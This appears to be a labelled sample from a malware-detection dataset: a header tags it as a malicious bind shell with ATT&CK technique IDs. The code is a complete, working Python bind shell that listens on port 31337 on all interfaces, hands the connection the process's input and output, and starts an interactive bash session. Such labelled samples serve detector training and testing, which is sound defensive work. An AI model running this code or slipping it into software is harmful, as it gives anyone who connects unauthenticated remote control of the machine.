# label: malicious family=bindshell techniques=T1059.004,T1095,T1571 lines=5-6,9-10
import socket, subprocess, os
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 31337))
srv.listen(1)
conn, addr = srv.accept()
for fd in (0, 1, 2):
    os.dup2(conn.fileno(), fd)
subprocess.call(["/bin/bash", "-i"])
